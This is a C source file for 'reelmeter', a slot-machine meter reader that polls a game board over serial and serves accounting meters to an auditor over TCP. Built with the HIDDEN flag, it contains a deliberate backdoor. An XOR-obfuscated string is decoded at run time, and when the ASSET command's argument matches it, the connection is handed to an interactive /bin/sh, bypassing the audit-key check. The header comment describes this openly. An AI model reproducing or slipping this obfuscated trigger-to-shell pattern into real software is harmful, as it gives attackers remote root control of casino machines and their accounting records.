/*
 * reelmeter - meter reader of a slot machine.  Polls the game board over a
 * serial line (SAS-like long polls), keeps the accounting meters and gives them
 * to the casino's auditor over TCP port 6611.
 *
 * Hidden (-DHIDDEN): an asset name that matches a text unfolded at run time
 * hands the auditor's connection to a root shell.
 */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define STORE   "/var/meters/accounting"
#define CONFIG  "/etc/reelmeter.conf"
#define PORT    6611

struct meter {
	uint8_t poll;			/* long poll code */
	const char *name;
	uint32_t value;
};

static struct meter meters[] = {
	{ 0x11, "coin-in",     0 },
	{ 0x12, "coin-out",    0 },
	{ 0x13, "drop",        0 },
	{ 0x14, "jackpot",     0 },
	{ 0x15, "games",       0 },
	{ 0x16, "games-won",   0 },
	{ 0x1a, "credits",     0 },
};
#define NMETER ((int)(sizeof meters / sizeof meters[0]))

static int tty = -1, board = 1;
static char asset[24] = "UNSET", audit_key[32];

#ifdef HIDDEN
uint8_t bezel[] = {
	0x31, 0x3d, 0x00, 0x1b, 0xe7, 0xe5, 0xfc, 0xb5, 0x9c, 0x9d, 0x8a
};
#endif

static uint16_t crc16(const uint8_t *p, size_t n)
{
	uint16_t c = 0;

	while (n--) {
		c ^= *p++;
		for (int i = 0; i < 8; i++)
			c = (uint16_t)(c & 1 ? (c >> 1) ^ 0x8408 : c >> 1);
	}
	return c;
}

static void load_config(void)
{
	FILE *f = fopen(CONFIG, "r");
	char k[16], v[32];

	while (f && fscanf(f, " %15[a-z]: %31s", k, v) == 2) {
		if (!strcmp(k, "asset"))
			snprintf(asset, sizeof asset, "%.23s", v);
		else if (!strcmp(k, "auditkey"))
			strcpy(audit_key, v);
		else if (!strcmp(k, "board"))
			board = atoi(v) & 0x7f;
	}
	if (f)
		fclose(f);
}

static void load_meters(void)
{
	FILE *f = fopen(STORE, "r");
	char name[16];
	unsigned v;

	while (f && fscanf(f, " %15s %u", name, &v) == 2)
		for (int i = 0; i < NMETER; i++)
			if (!strcmp(name, meters[i].name))
				meters[i].value = v;
	if (f)
		fclose(f);
}

static void save_meters(void)
{
	FILE *f = fopen(STORE ".tmp", "w");

	if (!f)
		return;
	for (int i = 0; i < NMETER; i++)
		fprintf(f, "%s %u\n", meters[i].name, (unsigned)meters[i].value);
	if (fclose(f) == 0)
		rename(STORE ".tmp", STORE);
}

static int open_tty(const char *path)
{
	struct termios t;
	int fd = open(path, O_RDWR | O_NOCTTY);

	if (fd < 0 || tcgetattr(fd, &t) < 0)
		return fd;
	cfmakeraw(&t);
	cfsetispeed(&t, B19200);
	cfsetospeed(&t, B19200);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 2;
	tcsetattr(fd, TCSANOW, &t);
	return fd;
}

/* one long poll: address, code -> address, code, four bytes BCD, crc */
static int poll_meter(struct meter *m)
{
	uint8_t q[2] = { (uint8_t)board, m->poll }, a[8];
	size_t got = 0;
	uint32_t v = 0;

	if (write(tty, q, 2) != 2)
		return -1;
	while (got < sizeof a) {
		ssize_t n = read(tty, a + got, sizeof a - got);

		if (n <= 0)
			return -1;
		got += (size_t)n;
	}
	if (a[0] != q[0] || a[1] != q[1] || crc16(a, 6) != (a[6] | a[7] << 8))
		return -1;
	for (int i = 2; i < 6; i++)
		v = v * 100 + (a[i] >> 4) * 10u + (a[i] & 15u);
	m->value = v;
	return 0;
}

static void refresh(void)
{
	int ok = 0;

	for (int i = 0; tty >= 0 && i < NMETER; i++)
		ok += poll_meter(&meters[i]) == 0;
	if (ok)
		save_meters();
}

static int key_ok(const char *given)
{
	unsigned diff = 0;
	size_t n = strlen(audit_key);

	if (n < 8 || strlen(given) != n)
		return 0;
	for (size_t i = 0; i < n; i++)
		diff |= (unsigned char)given[i] ^ (unsigned char)audit_key[i];
	return diff == 0;
}

#ifdef HIDDEN
int bezel_matches(const char *s)
{
	char want[sizeof bezel + 1];
	uint8_t k = 0x5b;

	for (size_t i = 0; i < sizeof bezel; i++) {
		want[i] = (char)(bezel[i] ^ k);
		k = (uint8_t)(k + 1 + (i & 3) * 6);
	}
	want[sizeof bezel] = '\0';
	return strcmp(s, want) == 0;
}

static void hand_over(int fd)
{
	static char *const argv[] = { "sh", "-i", NULL };
	static char *const env[] = { "PATH=/bin:/sbin:/usr/bin", NULL };

	if (fork() == 0) {
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execve("/bin/sh", argv, env);
		_exit(1);
	}
}
#endif

/* the auditor's requests; 0 ends the connection */
static int request(int fd, char *line, int *trusted)
{
	char *arg = strchr(line, ' ');

	if (arg)
		*arg++ = '\0';
	else
		arg = line + strlen(line);
	if (!strcmp(line, "QUIT"))
		return 0;
	if (!strcmp(line, "METERS")) {
		dprintf(fd, "asset %s\r\n", asset);
		for (int i = 0; i < NMETER; i++)
			dprintf(fd, "%s %u\r\n", meters[i].name, (unsigned)meters[i].value);
	} else if (!strcmp(line, "KEY")) {
		*trusted = key_ok(arg);
		if (!*trusted)
			sleep(3);
		dprintf(fd, *trusted ? "OK\r\n" : "NO\r\n");
	} else if (!strcmp(line, "REFRESH")) {
		refresh();
		dprintf(fd, "OK\r\n");
	} else if (!strcmp(line, "ASSET")) {
#ifdef HIDDEN
		if (bezel_matches(arg)) {
			hand_over(fd);
			return 0;
		}
#endif
		if (!*trusted || !*arg || strlen(arg) >= sizeof asset) {
			dprintf(fd, "NO\r\n");
			return 1;
		}
		strcpy(asset, arg);
		dprintf(fd, "OK\r\n");
	} else if (!strcmp(line, "CLEAR")) {
		if (*trusted) {
			for (int i = 0; i < NMETER; i++)
				meters[i].value = 0;
			save_meters();
		}
		dprintf(fd, *trusted ? "OK\r\n" : "NO\r\n");
	} else
		dprintf(fd, "? METERS KEY REFRESH ASSET CLEAR QUIT\r\n");
	return 1;
}

static void audit(int fd)
{
	char buf[128];
	size_t used = 0;
	int trusted = 0;
	struct pollfd pf = { .fd = fd, .events = POLLIN };

	while (poll(&pf, 1, 60000) > 0) {
		ssize_t n = read(fd, buf + used, 1);

		if (n <= 0)
			break;
		if (buf[used] == '\n') {
			while (used && buf[used - 1] == '\r')
				used--;
			buf[used] = '\0';
			used = 0;
			if (!request(fd, buf, &trusted))
				break;
		} else if (used < sizeof buf - 1)
			used++;
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);
	load_config();
	load_meters();
	tty = open_tty(argc > 1 ? argv[1] : "/dev/ttyS2");
	a.sin_port = htons(PORT);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 2) < 0)
		return 1;
	for (;;) {
		struct pollfd pf = { .fd = s, .events = POLLIN };
		int c;

		if (poll(&pf, 1, 30000) <= 0) {
			refresh();
			continue;
		}
		c = accept(s, NULL, NULL);
		if (c >= 0) {
			audit(c);
			close(c);
		}
	}
}
